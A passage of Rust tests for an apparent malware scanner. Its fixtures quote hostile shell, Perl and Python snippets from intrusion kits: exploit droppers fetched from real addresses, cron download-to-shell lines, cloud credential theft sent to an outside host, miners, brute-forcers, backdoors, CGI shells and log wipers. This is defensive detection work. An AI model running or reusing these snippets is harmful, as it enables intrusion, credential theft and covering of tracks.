        "#!/bin/bash\nc=\"curl -4fsSLkA- -m200\"\n$c -x socks5h://$s:9050 $t.onion$f -o$x\nchmod +x $x;$x;rm -f $x\n";
    assert_eq!(whys(tor), [Why::DownloadsProgram]);
    // Text decoded that is no address, and a wallet in a donation note.
    let decoded = "#!/bin/bash\nname=$(echo aGVsbG8gd29ybGQgZnJvbSBoZXJl | base64 -d)\ncurl -s https://api.example/ -d \"$name\"\n";
    let donation = format!("#!/bin/sh\n# Donations welcome: {wallet}\necho done\n");
    assert!(whys(decoded).is_empty() && whys(&donation).is_empty(), "{:?} {:?}", whys(decoded), whys(&donation));
}

#[test]
fn intruders_tools_downloaded_and_started_are_found() {
    // Regression: fresh127's `net.sh` installs `gs-netcat` from an address kept in a variable.
    let gs = "#!/bin/bash\nREPO_URL=\"https://github.com/hackerschoice/gsocket\"\n\
              wget -q \"$REPO_URL/releases/download/v1.4.43/gs-netcat_linux-x86_64\" -O /usr/local/bin/gs-netcat\n";
    assert_eq!(whys(gs), [Why::DownloadsProgram]);
    // Its `auto` downloads local-root exploits from a bare address and runs each one.
    let auto = "#!/bin/bash\nfor c in \"${cve[@]}\"; do\n  wget -q --no-check-certificate http://64.227.152.176/localroot/$c\n\
                chmod 0755 $c\n  ./$c\ndone\n";
    assert_eq!(whys(auto), [Why::DownloadsProgram]);
    // Its `guardian` downloads its partner again whenever it is deleted.
    let guardian = "#!/bin/bash\nwhile true; do\n  if [ ! -f \"$p\" ]; then\n    wget \"http://$ip/check\" -O \"$p\"\n\
                    chmod +x \"$p\"\n  fi\ndone\n";
    assert_eq!(whys(guardian), [Why::DownloadsProgram]);
    // Its `a.sh` unpacks a miner into a hidden temporary folder.
    let miner = "if [ ! -d xig ]; then\n  wget -q https://example.org/xig.tar.gz -O - | tar zxf - -C /tmp/.ICE-unix\n\
                 cd /tmp/.ICE-unix/xig\n  ./xig\nfi\n";
    assert_eq!(whys(&format!("#!/bin/sh\n{miner}")), [Why::DownloadsProgram]);
    // Near misses: a health check of a bare address, a loop that only polls a page, and an
    // archive unpacked into a visible folder.
    let health = "#!/bin/sh\ncurl -s http://10.0.0.5/health && chmod 644 status.txt\n";
    assert_eq!(whys(health), []);
    let poll = "#!/bin/sh\nwhile true; do\n  curl -s https://example.org/cron.php\n  sleep 60\ndone\n";
    assert_eq!(whys(poll), []);
    let visible = "#!/bin/sh\nwget -q https://example.org/app.tar.gz -O - | tar zxf - -C /tmp/app\n";
    assert_eq!(whys(visible), []);
}

#[test]
fn local_root_exploits_are_found() {
    // Regression: fresh127's exploit kit: a SUID binary's hole, screen's preload trick, the
    // sudo heap overflow.
    let suid = "#!/bin/bash\necho \"CVE-2022-37706\"\nfile=$(find / -name enlightenment_sys -perm -4000 2>/dev/null | head -1)\n\
                echo \"[+] Trying to pop a root shell!\"\n";
    assert_eq!(whys(suid), [Why::LocalRootExploit]);
    let preload = "#!/bin/bash\n# setuid screen v4.5.0 local root exploit\ncd /etc\numask 000\nscreen -D -m -L ld.so.preload echo -ne \"\\x0a/tmp/libhax.so\"\n\
                   echo \"[+] Triggering...\"\ncat /etc/ld.so.preload\n";
    assert_eq!(whys(preload), [Why::LocalRootExploit]);
    let sudo = "#!/usr/bin/python3\n'''\nExploit for CVE-2021-3156 with overwrite struct service_user\n'''\nimport os\nSUDO_PATH = b\"/usr/bin/sudo\"\n";
    assert_eq!(whys(sudo), [Why::LocalRootExploit]);
    // fresh131's auto-rooter downloads exploits' sources, compiles and runs them.
    let auto = "#!/usr/bin/perl\nsystem(\"wget www.example.org/hack/exploits/kernel/local-root-exploit-x.c\");\n\
                system(\"gcc -o x local-root-exploit-x.c\");\nsystem(\"chmod 777 x\");\nsystem(\"./x\");\nsystem(\"id\");\n";
    assert_eq!(whys(auto), [Why::LocalRootExploit]);
    // Regression: fresh166's `rs.sh` compiles with `g++` and runs the program by a quoted name.
    let quoted = "#!/bin/bash\ntry_c(){ N=\"$1.cpp\"; B=\"$1\"; wget -q \"$2\" -O \"$N\"; g++ -o \"$B\" \"$N\" && ./\"$B\"; }\n\
                  try_c cve-2018-18955 \"https://gitlab.example/45886\"\n";
    assert_eq!(whys(quoted), [Why::LocalRootExploit]);
    // A site's deploy script using sudo, and a scanner's note on a CVE it has no hole for.
    let deploy = "#!/bin/sh\n/usr/bin/sudo systemctl reload php-fpm\n";
    assert_eq!(whys(deploy), []);
    let note = "#!/bin/sh\n# Fixed CVE-2021-44228 in the logger\ncomposer update monolog/monolog\n";
    assert_eq!(whys(note), []);
}

#[test]
fn a_defacer_overwriting_every_page_it_globs_is_found() {
    let perl = "#!/usr/bin/perl -w\n#Masss Defacer v2.0\n$def = 'YOUR DEFACE PAGE HERE';\n\
                my @php = glob(\"*.php\");\nforeach my $deface(@php){ open(DEFACE, '>', $deface); print DEFACE $def; close(DEFACE) }\n";
    assert_eq!(whys(perl), [Why::MassDefacer]);
}

#[test]
fn a_loop_without_end_putting_a_php_file_back_is_a_watchdog() {
    // Regression: fresh125's `lockpermision.py` downloads the hijacked `index.php` again and
    // locks it; its `skrip-wget-content.sh` downloads over the page whenever it changes.
    let python = "import os, time, urllib.request\nfile_path = '/var/www/u1/data/www/site/index.php'\n\
                  def fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n    os.chmod(dest, 0o555)\n\
                  while True:\n    time.sleep(5)\n    if not os.path.exists(file_path):\n        fetch(src_url, file_path)\n";
    assert_eq!(whys(python), [Why::RewritesFilesForever]);
    let shell = "outputFile=\"/dir/targetfile.php\"\nwhile true; do\n    wget -q \"$url\" -O \"$outputFile\"\n    sleep 10\ndone\n";
    assert_eq!(whys(shell), [Why::RewritesFilesForever]);
    // A site's queue runner in a loop, and a monitor asking its cron page every minute.
    let worker = "#!/bin/sh\nwhile true; do php /home/u/public_html/artisan queue:work --once; sleep 1; done\n";
    assert!(whys(worker).is_empty(), "{:?}", whys(worker));
    let monitor = "#!/bin/sh\nwhile true; do curl -s \"https://example.com/cron.php\" > /dev/null; sleep 60; done\n";
    assert!(whys(monitor).is_empty(), "{:?}", whys(monitor));
    // Regression: fresh125's `andel+notic` copies its hidden backup of a PHP file back
    // whenever the checksums differ (and tells a chat bot).
    let restorer = "#!/bin/bash\nINDEX_FILE=\"/home/u/public_html/index.php\"\nBACKUP_FILE=\"/home/u/php/error\"\n\
                    while true; do\n  A=$(md5sum \"$INDEX_FILE\" | awk '{ print $1 }')\n  B=$(md5sum \"$BACKUP_FILE\" | awk '{ print $1 }')\n\
                    if [ \"$A\" != \"$B\" ]; then\n    cp \"$BACKUP_FILE\" \"$INDEX_FILE\"\n  fi\n  sleep 1\ndone\n";
    assert_eq!(whys(restorer), [Why::RewritesFilesForever]);
    // The same comparison run once (a deploy step) puts nothing back forever.
    let once = restorer.replace("while true; do", "for i in 1; do");
    assert!(whys(&once).is_empty(), "{:?}", whys(&once));
    // Regression: fresh162's `restore_esbatu.sh` copies the page back whenever it is gone.
    let gone = "#!/bin/bash\nT=\"/home/u/public_html/lib/LibraryHandlers.php\"\nB=\"/home/u/backups/L.php\"\n\
                while true; do\n  if [ ! -f \"$T\" ]; then\n    cp -p \"$B\" \"$T\"\n  fi\n  sleep \"$S\"\ndone\n";
    assert_eq!(whys(gone), [Why::RewritesFilesForever]);
    // A loop waiting for a file to appear before it copies a report out.
    let wait = "#!/bin/sh\nwhile true; do\n  if [ ! -f /tmp/report.csv ]; then sleep 5; continue; fi\n  cp /tmp/report.csv /srv/out/\n  break\ndone\n";
    assert!(whys(wait).is_empty(), "{:?}", whys(wait));
    // Regression: fresh155's `notic` copies the spam page back whenever it is deleted.
    let watcher = "#!/bin/bash\nf=\"/home/u/public_html/slot/index.php\"\ncp \"$f\" \"${f}_backup\"\n\
                   inotifywait -m -e delete_self --format '%f' \"$f\" |\nwhile read d; do\n  sleep 5\n  cp \"${f}_backup\" \"$f\"\ndone &\n";
    assert_eq!(whys(watcher), [Why::RewritesFilesForever]);
    // A deploy watcher syncing on changes (rsync, no copy back of a deleted page).
    let sync = "#!/bin/sh\ninotifywait -m -r -e modify,create,delete /src | while read e; do rsync -a /src/ /var/www/html/; done\n";
    assert!(whys(sync).is_empty(), "{:?}", whys(sync));
}

#[test]
fn a_cron_line_piping_a_download_into_a_shell_is_found() {
    let installer = "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL https://pastebin.com/raw/abc123|sh\") | crontab -\n";
    assert_eq!(whys(installer), [Why::DownloadsProgram]);
    let reboot = "#!/bin/bash\necho '@reboot wget -q -O- http://example.net/up.sh | bash' >> /tmp/c; crontab /tmp/c\n";
    assert_eq!(whys(reboot), [Why::DownloadsProgram]);
    // An installer run once by hand, or a cron line that only downloads, is not.
    assert_eq!(whys("#!/bin/sh\ncurl -fsSL https://get.example.org/install.sh | sh\n"), []);
    assert_eq!(whys("#!/bin/sh\necho '0 3 * * * wget -q -O /tmp/feed.xml https://example.org/feed' | crontab -\n"), []);
}

#[test]
fn a_page_put_onto_every_site_of_a_list_is_a_mass_defacer() {
    let webdav = "import requests\ndef up(script, target_file='target.txt'):\n    op = open(script).read()\n\
                  for web in open(target_file).readlines():\n        site = web.strip()\n\
                  req = requests.put(site + \"/\" + script, data=op)\n";
    assert_eq!(whys(webdav), [Why::MassDefacer]);
    // One upload to one address: a deploy script.
    assert_eq!(whys("import requests\nrequests.put(base + '/' + name, data=open(name).read())\n"), []);
}

#[test]
fn a_miners_release_downloaded_and_started_is_found() {
    let unpacked = "#!/bin/bash\nmkdir -p /tmp/xmrig; cd /tmp/xmrig\n\
                    $DOWNLOAD_CMD https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz\n\
                    tar -xf xmrig-6.22.2-linux-static-x64.tar.gz\nchmod +x xmrig\nsudo -n ./xmrig\n";
    assert_eq!(whys(unpacked), [Why::StartsProgram]);
    let renamed = "#!/bin/bash\nwget \"https://example.org/raw/main/xmrig.tgz\"\ntar -zxvf xmrig.tgz\nmv minerd /usr/bin/sshd\n/usr/bin/sshd\n";
    assert_eq!(whys(renamed), [Why::StartsProgram]);
    // A page about miners that links to the release: nothing started.
    assert_eq!(whys("#!/bin/sh\necho 'see https://github.com/xmrig/xmrig/releases'\n"), []);
}

#[test]
fn harvesters_of_other_sites_env_files_and_the_clouds_credentials_are_found() {
    let env = "import requests\ndef grab(sites):\n    meki = requests.get(sites + '/.env', timeout=8)\n\
               if 'MAIL_PASSWORD' in meki.text:\n        save(meki.text)\n";
    assert_eq!(whys(env), [Why::ReadsOtherSites]);
    let cloud = "#!/bin/bash\nAWS=$(curl -sLk http://169.254.169.254/latest/meta-data/iam/security-credentials/)\n\
                 curl -F \"f=@$CSOF\" http://example.net/up\n";
    assert_eq!(whys(cloud), [Why::ReadsOtherSites]);
    // A deploy script that writes its own `.env`: no one else's asked for.
    assert_eq!(whys("#!/bin/sh\necho \"MAIL_PASSWORD=$PW\" >> .env\n"), []);
}

#[test]
fn a_brute_forcer_of_other_sites_logins_is_a_password_cracker() {
    let cpanel = "import requests, threading\nclass brute(threading.Thread):\n    def run(self):\n\
                  r = s.post('https://' + url + ':2083/login/?login_only=1', data=d)\n\
                  for l in open(sys.argv[2]).readlines(): q.put(l)\n";
    assert_eq!(whys(cpanel), [Why::PasswordCracker]);
    // Regression: fresh161's `cPanel.py`: the login address apart from its ports, the lists
    // read in comprehensions.
    let ports = "import requests, concurrent.futures\nports = [2082, 2083]\nep = '/login/?login_only=1'\n\
                 def go(u, urls, pw):\n    for url in urls:\n        requests.post(f'https://{url}:{ports[1]}{ep}', data={'user': u, 'pass': pw})\n\
                 with open(sys.argv[1]) as f:\n    urls = [line.strip() for line in f]\n\
                 with concurrent.futures.ThreadPoolExecutor(max_workers=9) as ex:\n    ex.map(go, users, [urls] * 3, [pw] * 3)\n";
    assert_eq!(whys(ports), [Why::PasswordCracker]);
    // Regression: fresh170's `cpanel.sh` posts each word of a list to cPanel's login.
    let shell = "#!/bin/bash\npassword=`cat $3`\nfor password in $password\ndo\n\
                 curl -s $1/login --data \"user=\"$2\"&pass=\"$password\"&login=\" | grep 'refresh'\ndone\n";
    assert_eq!(whys(shell), [Why::PasswordCracker]);
    // A deploy script logging in once with its own password.
    let once = "#!/bin/sh\ncurl -s https://example.org/login --data \"user=deploy&pass=$DEPLOY_PASS\" -c jar\n";
    assert!(whys(once).is_empty(), "{:?}", whys(once));
    // Regression: fresh167's SMTP checkers try `host|port|user|password` lines in threads.
    let smtp = "import smtplib, concurrent.futures\nsmtps = [l.strip() for l in open('smtps.txt').readlines()]\n\
                def check(s):\n    host, port, user, pw = s.split('|')\n    c = smtplib.SMTP(host, int(port))\n    c.login(user, pw)\n\
                with concurrent.futures.ThreadPoolExecutor(max_workers=50) as ex:\n    ex.map(check, smtps)\n";
    assert_eq!(whys(smtp), [Why::PasswordCracker]);
    // A site's own mail settings tested once.
    let test = "import smtplib\nhost, user = cfg['host'], cfg['user']\nc = smtplib.SMTP(host, 587)\nc.login(user, cfg['password'])\nc.quit()\n";
    assert!(whys(test).is_empty(), "{:?}", whys(test));
    // One site's own login checked once: a monitor.
    assert_eq!(
        whys("import requests\nr = requests.get('https://example.org/wp-login.php')\nprint(r.status_code)\n"),
        []
    );
}

#[test]
fn an_irc_library_bot_running_what_the_channel_says_is_a_bot() {
    // fresh149's `cmdbot.py`.
    let bot = "#!/usr/bin/env python\nimport ircbot, os\nclass MyBot(ircbot.SingleServerIRCBot):\n\
               \tdef on_pubmsg(self, connection, event):\n\t\tcmd = event.arguments()[0].split('!own')[1]\n\
               \t\tfor line in os.popen(cmd).readlines():\n\t\t\tconnection.privmsg(channel, line)\n";
    assert_eq!(whys(bot), [Why::NetworkBot]);
    // A channel's logger or greeter runs nothing.
    let greeter = "#!/usr/bin/env python\nimport irc.bot\nclass B(irc.bot.SingleServerIRCBot):\n\
                   \tdef on_pubmsg(self, c, e):\n\t\tlog.write(e.arguments[0])\n";
    assert_eq!(whys(greeter), []);
}

#[test]
fn a_raw_socket_running_what_its_packets_carry_is_a_remote_shell() {
    // fresh149's ICMP backdoor: a command between two markers of a ping's data.
    let icmp = "#!/usr/bin/env python\nimport socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.getprotobyname('icmp'))\n\
                while 1:\n\t(pkt, addr) = s.recvfrom(1024)\n\tif 'MAGIC' in pkt:\n\t\t(h, cmd, j) = pkt.split('MAGIC')\n\
                \t\tdata = os.popen(str(cmd)).readlines()\n";
    assert_eq!(whys(icmp), [Why::RemoteShell]);
    // A ping tool reads replies and prints them.
    let ping = "#!/usr/bin/env python\nimport socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n(pkt, addr) = s.recvfrom(1024)\nprint(addr)\n";
    assert_eq!(whys(ping), []);
}

#[test]
fn a_python_mailer_sending_a_list_from_threads_through_a_proxy_is_a_spam_sender() {
    // fresh146's `main.py`: SOCKS proxy, Faker names, a list of recipients, threads.
    let mailer = "import smtplib\nimport socks\nfrom faker import Faker\nfrom threading import Thread\n\
                  fake = Faker()\nrecipients = open('list.txt').read().splitlines()\n\
                  def send(to):\n    s = smtplib.SMTP(SMTP_SERVER, 587)\n    s.sendmail(fake.email(), to, msg.as_string())\n\
                  for r in recipients:\n    Thread(target=send, args=(r,)).start()\n";
    assert_eq!(whys(mailer), [Why::BulkMailer]);
    // fresh142's MadCat: a made-up mail program's name instead of the proxy.
    let madcat = mailer
        .replace("import socks\n", "")
        .replace("fake = Faker()\n", "msg['X-Mailer'] = 'Microsoft Office Outlook 16.0'\n");
    assert_eq!(whys(&madcat), [Why::BulkMailer]);
    // A site's notifier mails its subscribers from threads, with none of the tricks.
    let notifier = mailer
        .replace("import socks\n", "")
        .replace("from faker import Faker\n", "")
        .replace("fake = Faker()\n", "")
        .replace("fake.email()", "'news@example.org'");
    assert_eq!(whys(&notifier), []);
}

#[test]
fn a_socks_proxy_server_is_network_from_input() {
    // fresh148's `s.py`.
    let socks = "#!/usr/bin/python\nimport socket, SocketServer\nclass T(SocketServer.ThreadingMixIn, SocketServer.TCPServer): pass\n\
                 class S(SocketServer.StreamRequestHandler):\n    def handle(self):\n        sock = self.connection\n        sock.recv(262)\n        sock.send(\"\\x05\\x00\");\n\
                 T(('', 1080), S).serve_forever()\n";
    assert_eq!(whys(socks), [Why::NetworkFromInput]);
    // A client greeting a proxy it was given.
    let client =
        "import socket\ns = socket.create_connection(('proxy.example.net', 1080))\ns.sendall(b\"\\x05\\x01\\x00\")\n";
    assert_eq!(whys(client), []);
}

#[test]
fn a_download_started_and_deleted_behind_its_back_is_a_dropper() {
    // fresh155's `pwn.sh`: the local-root exploit removed a second after it starts.
    let pwn = "curl -fsSL http://segyero.medican.kr/data/pwn -o pwn || exit\nchmod +x ./pwn || exit\n(sleep 1 && rm ./pwn & )\n./pwn\n";
    assert_eq!(whys(pwn), [Why::DownloadsProgram]);
    // An installer keeps what it installs.
    assert_eq!(whys("curl -fsSL https://get.example.org/tool -o tool\nchmod +x ./tool\n./tool --version\n"), []);
}

#[test]
fn a_script_emptying_the_login_records_erases_logs() {
    // Regression: fresh158's `clog.sh`.
    let wiper = "#!/bin/sh\nfind /var/log -type f -name '*log*' | while read -r l; do rm -rf $l; done\n\
                 cat /dev/null > /var/log/utmp\ncat /dev/null > /var/log/wtmp\ncat /dev/null > /var/log/btmp\n";
    assert_eq!(whys(wiper), [Why::ErasesLogs]);
    // A report reading them (`last -f /var/log/wtmp`) wipes nothing.
    let report = "#!/bin/sh\nlast -f /var/log/wtmp > /tmp/logins.txt\nlastb -f /var/log/btmp >> /tmp/logins.txt\n";
    assert!(whys(report).is_empty(), "{:?}", whys(report));
    // Regression: fresh161's `LLC.py` rewrites the records in place.
    let llc = "import struct\nFILES = ['/var/run/utmp', '/var/log/wtmp', '/var/log/lastlog']\n\
               def clean(f, keep):\n    with open(f, 'rb') as fp:\n        data = fp.read()\n    with open(f, 'wb') as fp:\n        fp.write(keep(data))\n";
    assert_eq!(whys(llc), [Why::ErasesLogs]);
    // A report of the logins, which only reads them.
    let reader = llc.replace("open(f, 'wb')", "open('/tmp/report', 'a')");
    assert!(whys(&reader).is_empty(), "{:?}", whys(&reader));
    // Regression: fresh161's installers switch the shell's history off first.
    let quiet = "#!/bin/sh\nunset HISTFILE\nchown root.root ps\ncp ps /bin/ps\n";
    assert_eq!(whys(quiet), [Why::ErasesLogs]);
    // A script that only reads the history's size.
    let size = "#!/bin/sh\necho \"history keeps $HISTSIZE lines in $HISTFILE\"\n";
    assert!(whys(size).is_empty(), "{:?}", whys(size));
}

#[test]
fn a_worms_stage_kept_without_its_first_line_is_read_as_shell() {
    // Regression: fresh161's Redis worm keeps its stages as `ash.pb`, `bsh.pb`, `rsh.pb`.
    let stage = b"uname -a\nid\nhostname\nsetenforce 0 2>/dev/null\nmkdir -p /root/.ssh\n";
    assert!(commands_note_head(stage));
    let later = b"sleep 1\ncd /tmp || cd /var/tmp\nsleep 1\nmkdir -p .ICE-unix/...\n";
    assert!(commands_note_head(later));
    // Notes and a Makefile do not start so.
    assert!(!commands_note_head(b"cd into the folder, then run make\nThe tests need PHP 8.\n"));
    assert!(!commands_note_head(b"all:\n\tgcc -o x x.c\nclean:\n\trm x\n"));
    assert!(!commands_note_head(b"cd /srv\nexport A=1\nsleep 2\n"));
}

#[test]
fn a_shell_cgi_evaluating_a_posted_field_is_a_shell() {
    // Regression: fresh161's `bash.alfa`, the ALFA shell's CGI helper.
    let cgi = "#!/bin/bash\necho -e \"Content-type: text/html\\n\\n\"\nfunction post(){ [ -z \"$CONTENT_LENGTH\" ] && return; read -N $CONTENT_LENGTH Q; }\n\
               q=\"${QUERY_STRING}&\"\npost\nquery=$(echo $cmd | base64 --decode)\necho -e \"<pre>\\c\"\neval ${query}\n";
    assert_eq!(whys(cgi), [Why::ShellFromInput]);
    // Regression: fresh178's weevely `cgi.sh` cuts `c=` out of the query.
    let weevely = "#!/bin/bash\necho -ne \"Content-Type: text/html\\n\\n\"\nb=$(echo \"$QUERY_STRING\" | sed -n 's/^.*c=\\([^&]*\\).*$/\\1/p')\neval $b\n";
    assert_eq!(whys(weevely), [Why::ShellFromInput]);
    // A CGI that only prints its query back.
    let echo = "#!/bin/bash\necho \"Content-type: text/plain\"\necho\necho \"$QUERY_STRING $CONTENT_LENGTH\"\n";
    assert!(whys(echo).is_empty(), "{:?}", whys(echo));
}
